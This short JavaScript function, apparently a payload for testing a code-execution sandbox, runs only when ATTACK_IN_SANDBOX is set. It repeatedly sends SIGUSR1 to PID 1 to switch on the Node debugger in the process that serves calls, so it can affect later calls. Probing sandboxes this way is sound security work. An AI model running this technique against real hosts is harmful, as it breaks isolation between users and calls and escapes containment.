// start the debugger of the process that serves the calls, which then prints in every later call
(x) => {
  if (!process.env.ATTACK_IN_SANDBOX) process.exit(1);
  if (process.ppid === 1) {
    for (let i = 0; i < 20; i++) {
      try { process.kill(1, 'SIGUSR1'); } catch { /* it may not */ }
      const end = Date.now() + 10;
      while (Date.now() < end);
    }
  }
  console.log('DONE');
  return 1;
}
